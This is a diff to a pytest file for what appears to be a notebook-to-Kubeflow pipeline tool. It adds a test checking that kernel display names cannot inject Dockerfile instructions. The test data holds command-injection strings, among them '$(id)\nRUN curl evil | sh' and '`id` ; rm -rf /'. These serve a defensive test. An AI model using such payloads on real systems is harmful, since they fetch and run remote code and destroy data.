@@ -244,8 +244,11 @@ def test_dockerfile_and_requirements(compiled: dict[str, Any]) -> None:
     assert not any(line.startswith("helpers") for line in requirements)
     dockerfile = (folder / "Dockerfile").read_text()
     assert f"FROM python:{sys.version_info.major}.{sys.version_info.minor}-slim" in dockerfile
-    assert "pip install --no-cache-dir -r /tmp/requirements.txt" in dockerfile
-    assert "python -m ipykernel install --name python3" in dockerfile
+    runs = [json.loads(line.removeprefix("RUN ")) for line in dockerfile.splitlines()
+            if line.startswith("RUN ")]
+    assert ["pip", "install", "--no-cache-dir", "-r", "/tmp/requirements.txt"] in runs
+    assert any(r[:6] == ["python", "-m", "ipykernel", "install", "--name", "python3"]
+               for r in runs)
     pipeline = sorted(p.name for p in compiled["folder"].iterdir() if p.name != "runs")
     assert _copies(dockerfile) == {
         "/tmp/requirements.txt": "kfp/requirements.txt",
@@ -328,3 +331,22 @@ def test_output_must_be_yaml(compiled: dict[str, Any], tmp_path: Path) -> None:
     with pytest.raises(MlopsError, match=r"name it \*\.yaml"):
         compile_pipeline(compiled["folder"], tmp_path / "out.json", image=IMAGE)
     assert not (tmp_path / "Dockerfile").exists()
+
+
+@pytest.mark.parametrize("kernel", [
+    {"name": "python3", "display_name": "$(id)\nRUN curl evil | sh"},
+    {"name": "python3", "display_name": 'Py "3" `id` ; rm -rf /'},
+])
+def test_a_hostile_kernel_display_name_stays_one_word_of_one_instruction(
+        tmp_path: Path, kernel: dict[str, str]) -> None:
+    """Notebook metadata reaches the Dockerfile as JSON strings of an exec-form RUN: no shell
+    reads them, and a newline cannot start another instruction."""
+    from jupyter_mlops.deploy.kfp_image import ImageLayout, dockerfile
+
+    spec = PipelineSpec("p", "p.ipynb", "0" * 64, ".", kernel, [], [])
+    layout = ImageLayout(tmp_path, "/mlops/p_pipeline", "/mlops", (), ())
+    text = dockerfile(layout, tmp_path / "kfp", spec, "image:1")
+    instructions = [line for line in text.splitlines() if line and not line.startswith("#")]
+    assert all(line.split()[0] in ("FROM", "COPY", "RUN", "WORKDIR") for line in instructions)
+    install = next(json.loads(line[4:]) for line in instructions if "ipykernel" in line)
+    assert install[-2:] == ["--display-name", kernel["display_name"]]
